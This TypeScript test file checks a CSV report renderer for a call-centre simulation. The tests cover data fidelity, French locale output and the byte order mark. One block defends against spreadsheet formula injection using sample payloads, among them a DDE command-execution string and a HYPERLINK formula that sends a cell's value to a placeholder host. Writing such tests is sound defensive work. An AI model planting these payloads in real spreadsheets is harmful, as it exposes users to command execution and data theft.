import { readFileSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import { Accumulator, readScenario, Simulation } from '../engine/index.ts';
import { buildReport } from './model.ts';
import { renderCsv } from './render-csv.ts';
import type { Report } from './schema.ts';
import { deskReport, DESK_RUN } from './small-desk.suite.ts';

/** RFC 4180 by the letter, and nothing of ours: a cell is quoted or free of quotes, lines end with CRLF. */
function parsed(text: string, separator: ',' | ';' = ','): string[][] {
  const rows: string[][] = [[]];
  const cells = new RegExp(String.raw`("(?:[^"]|"")*"|[^"${separator}\r\n]*)(${separator}|\r\n)`, 'gy');
  while (cells.lastIndex < text.length) {
    const found = cells.exec(text);
    if (found === null) throw new Error('not CSV');
    const [, cell = '', end] = found;
    rows.at(-1)?.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

type Line = Readonly<Record<string, string>>;

function linesOf(text: string, separator: ',' | ';' = ','): Line[] {
  const [header = [], ...rows] = parsed(text.replace(/^\ufeff/, ''), separator);
  return rows.map((row) => {
    expect(row).toHaveLength(header.length);
    return Object.fromEntries(header.map((name, at) => [name, row[at] ?? '']));
  });
}

const numberIn = (text: string | undefined): number | null =>
  text === undefined || text === '' ? null : Number(text);
const textIn = (text: string | undefined): string | null => (text === '' ? null : (text ?? null));

function estimateIn(line: Line | undefined) {
  const [mean, low, high, n] = ['mean', 'low', 'high', 'n'].map((column) => numberIn(line?.[column]));
  return { mean, low, high, n };
}

/** Every number of a value, wherever it stands. */
function numbersIn(value: unknown): number[] {
  if (typeof value === 'number') return [value];
  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(numbersIn) : [];
}

function libraryReport(name: string, days: number): Report {
  const text = readFileSync(new URL(`../scenarios/library/${name}.yaml`, import.meta.url), 'utf8');
  const result = readScenario(text);
  if (!result.ok) throw new Error(name);
  const { setup } = result;
  const simulation = new Simulation(setup);
  const results = new Accumulator(setup);
  for (let day = 0; day < days; day++) results.add(day, simulation.day(1, day));
  results.close();
  return buildReport(setup, results, { ...DESK_RUN, days });
}

describe.each([
  ['helpdesk', () => libraryReport('helpdesk', 3)],
  ['callback-flood', () => libraryReport('callback-flood', 3)],
  ['a small desk of one day, without intervals', () => deskReport(1)],
])('the CSV report of %s', (_, make) => {
  let report: Report;
  let lines: readonly Line[];
  beforeAll(() => {
    report = make();
    lines = linesOf(renderCsv(report));
  });
  const of = (table: string) => lines.filter((line) => line['table'] === table);

  it('has every number of the JSON', () => {
    const { warnings: _words, ...rest } = report;
    const cells = new Set(lines.flatMap((line) => Object.values(line)));
    const missing = numbersIn(rest).filter((number) => !cells.has(String(number)));
    expect(missing).toEqual([]);
  });

  it('says in every row which run it is', () => {
    for (const { scenario, seed, tandem } of lines)
      expect({ scenario, seed, tandem }).toEqual({
        scenario: report.scenario,
        seed: String(report.seed),
        tandem: report.tandem,
      });
  });

  it('has the KPIs of the JSON, one by one and in its order', () => {
    const kpis = of('kpis').map((line) => ({
      id: line['id'],
      stat: line['stat'],
      unit: line['unit'],
      queue: textIn(line['queue']),
      group: textIn(line['group']),
      interval: line['interval'] === '' ? null : { index: Number(line['interval']), start: line['start'] },
      kind: textIn(line['kind']),
      ...estimateIn(line),
    }));
    expect(kpis).toEqual(report.kpis);
    for (const { title, id } of of('kpis')) expect(title, id).not.toBe('');
  });

  it('has the cost, and the staff planned and required', () => {
    const cost = of('cost').find(({ group, stat }) => group === '' && stat === 'perDay');
    expect(numberIn(cost?.['mean'])).toBe(report.cost?.perDay ?? null);
    expect(cost?.['note']).toBe(report.cost?.currency);
    const staff = of('staffing').map(({ stat, group, queue, kind, interval, start, mean }) => ({
      ...(stat === 'planned' ? { group } : { queue }),
      interval: { index: Number(interval), start },
      kind: textIn(kind),
      [stat!]: numberIn(mean),
    }));
    expect(staff).toEqual([...report.staffing, ...report.required]);
  });

  it('has the headline, the expectations and the agents of the JSON', () => {
    const headline = of('headline').filter(({ stat }) => stat === 'share');
    expect(
      headline.map((line) => ({
        queue: textIn(line['queue']),
        target: numberIn(line['atLeast']),
        within: numberIn(line['within']),
        verdict: textIn(line['verdict']),
        ...estimateIn(line),
      })),
    ).toEqual(
      report.headline.map(({ queue, target, within, verdict, mean, low, high, n }) => ({
        queue,
        target,
        within,
        verdict,
        mean,
        low,
        high,
        n,
      })),
    );
    expect(
      of('expectations').map((line) => ({
        kpi: line['stat'],
        between: [numberIn(line['atLeast']), numberIn(line['atMost'])],
        verdict: line['verdict'],
        ...estimateIn(line),
      })),
    ).toEqual(
      report.expectations.map(({ kpi, between, verdict, mean, low, high, n }) => ({
        kpi,
        between,
        verdict,
        mean,
        low,
        high,
        n,
      })),
    );
    for (const { group, signedIn, occupancy, shares } of report.agents) {
      const own = of('agents').filter((line) => textIn(line['group']) === group);
      const meanOf = (stat: string) => numberIn(own.find((line) => line['stat'] === stat)?.['mean']);
      expect(meanOf('signedIn')).toBe(signedIn);
      expect(estimateIn(own.find(({ stat }) => stat === 'occupancy'))).toEqual(occupancy);
      for (const [activity, share] of Object.entries(shares)) expect(meanOf(activity)).toBe(share);
    }
  });

  it('has the callbacks of the JSON, step by step and offer by offer', () => {
    for (const { queue, offers, delay, delays, ...steps } of report.callbacks) {
      const own = (table: string) => of(table).filter((line) => textIn(line['queue']) === queue);
      for (const [step, perDay] of Object.entries(steps))
        expect(numberIn(own('callbacks').find(({ stat }) => stat === step)?.['mean']), step).toBe(perDay);
      expect(estimateIn(own('callbacks').find(({ stat }) => stat === 'delay'))).toEqual(delay);
      const [heard, accepted] = ['heard', 'accepted'].map((wanted) =>
        own('callbacks.offers').filter(({ stat }) => stat === wanted),
      );
      expect(
        heard?.map((line, at) => ({
          number: Number(line['offer']),
          after: Number(line['from']),
          heard: Number(line['mean']),
          accepted: estimateIn(accepted?.[at]),
        })),
      ).toEqual(offers);
      expect(
        own('callbacks.delays').map((line) => ({
          from: Number(line['from']),
          to: numberIn(line['to']),
          callbacks: Number(line['mean']),
        })),
      ).toEqual(delays);
    }
  });

  it('names the KPI that a figure of another table is, by its ID and title', () => {
    for (const table of ['headline', 'callbacks', 'agents']) {
      for (const { id, stat, title, queue, group, mean } of of(table)) {
        const kpi = of('kpis').find(
          (line) =>
            line['id'] === id &&
            line['title'] === title &&
            line['kind'] === '' &&
            line['interval'] === '' &&
            // All groups together, or a centre of one queue, may be told under either name.
            [queue, ''].includes(line['queue']) &&
            [group, ''].includes(line['group']) &&
            line['mean'] === mean,
        );
        expect(kpi, `${table} ${stat}`).toBeDefined();
      }
    }
  });

  it('has the overflow and the waits of the JSON', () => {
    const overflow = of('overflow');
    expect(
      overflow
        .filter(({ stat }) => stat === 'perDay')
        .map((line, at) => ({
          queue: line['queue'],
          title: line['title'],
          to: textIn(line['toQueue']),
          perDay: Number(line['mean']),
          share: estimateIn(overflow.filter(({ stat }) => stat === 'share')[at]),
        })),
    ).toEqual(
      report.overflow.map(({ queue, when, action, to, perDay, share }) => ({
        queue,
        title: `${when}: ${action}`,
        to,
        perDay,
        share,
      })),
    );
    for (const { queue, of: whom, points } of report.waits) {
      const own = of('waits').filter((line) => textIn(line['queue']) === queue && line['stat'] === whom);
      expect(own.map((line) => ({ wait: Number(line['to']), share: Number(line['mean']) }))).toEqual(points);
    }
    for (const { queue, atOnce, offers, bins } of report.waitBins) {
      const own = (wanted: string) =>
        of('waitBins').filter((line) => textIn(line['queue']) === queue && line['stat'] === wanted);
      expect(own('atOnce').map(({ mean }) => Number(mean))).toEqual([atOnce]);
      expect(own('offerDue').map(({ mean }) => Number(mean))).toEqual(offers);
      for (const stat of ['answered', 'optedIn', 'abandoned'] as const)
        expect(
          own(stat).map((line) => [Number(line['from']), numberIn(line['to']), Number(line['mean'])]),
        ).toEqual(bins.map((bin) => [bin.from, bin.to, bin[stat]]));
    }
  });

  it('is the same in French, with semicolons and decimal commas', () => {
    const text = renderCsv(report, { locale: 'fr' });
    const french = linesOf(text, ';').map((line) => ({ ...line, mean: line['mean']?.replace(',', '.') }));
    expect(french.map(({ mean }) => mean)).toEqual(lines.map(({ mean }) => mean));
    expect(text).toMatch(/;\d+,\d+;/);
  });
});

it('has the columns and tables that the guide lists, and no other', () => {
  const page = readFileSync(new URL('../web/guide/how-to/spreadsheet.md', import.meta.url), 'utf8');
  const rows = page.split('\n').filter((line) => line.startsWith('| `'));
  const lines = linesOf(renderCsv(deskReport(1)));
  const listed = rows.flatMap((row) => row.split('|')[1]?.match(/\w+/g) ?? []);
  expect(listed).toEqual(Object.keys(lines[0] ?? {}));
  const [tables = ''] = rows;
  for (const { table } of lines) expect(tables).toContain(`\`${table}\``);
});

describe('what the CSV report makes of texts', () => {
  const report = deskReport(1);
  const named = (scenario: string): string => {
    const [line] = linesOf(renderCsv({ ...report, kpis: [], scenario }));
    return line?.['scenario'] ?? '';
  };

  it.each([
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1)',
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"Error")',
    "  =cmd|'/C calc'!A0",
    '"=1+1',
    '\'"=1+1',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\ttext',
    '\u00a0=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
  ])('takes its power from %j, and nothing of its text', (payload) => {
    expect(named(payload).replaceAll("'", '')).toBe(payload.replaceAll("'", ''));
    expect(named(payload)).toMatch(/^'/);
  });

  it('leaves no formula to a spreadsheet that splits at another separator', () => {
    expect(named('a;=1+1')).toBe("a;'=1+1");
    expect(named('a,\t=1+1')).toBe("a,'\t'=1+1");
    expect(named('two\n@lines')).toBe("two\n'@lines");
  });

  it.each([
    'Support',
    'A "quoted" name',
    'Réclamations, Paris; Lyon',
    'two\r\nlines',
    'a-b = c',
    '日本語',
    '',
  ])('gives %j back as it is', (name) => {
    expect(named(name)).toBe(name);
  });

  it('leaves negative numbers numbers', () => {
    const [row] = report.kpis;
    if (row === undefined) throw new Error('no KPI');
    const lines = linesOf(renderCsv({ ...report, kpis: [{ ...row, mean: -3.5, low: -1e-9, high: 0 }] }));
    const kpi = lines.find((line) => line['table'] === 'kpis');
    expect(kpi).toMatchObject({ mean: '-3.5', low: '-1e-9', high: '0' });
  });

  it('begins with a byte order mark, for Excel, and does without one when asked', () => {
    expect(renderCsv(report)).toMatch(/^\ufefftable,id,stat,/);
    expect(renderCsv(report, { byteOrderMark: false })).toMatch(/^table,id,stat,/);
    expect(renderCsv(report, { locale: 'fr' })).toMatch(/^\ufefftable;id;stat;/);
    expect(renderCsv(report).replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  });
});
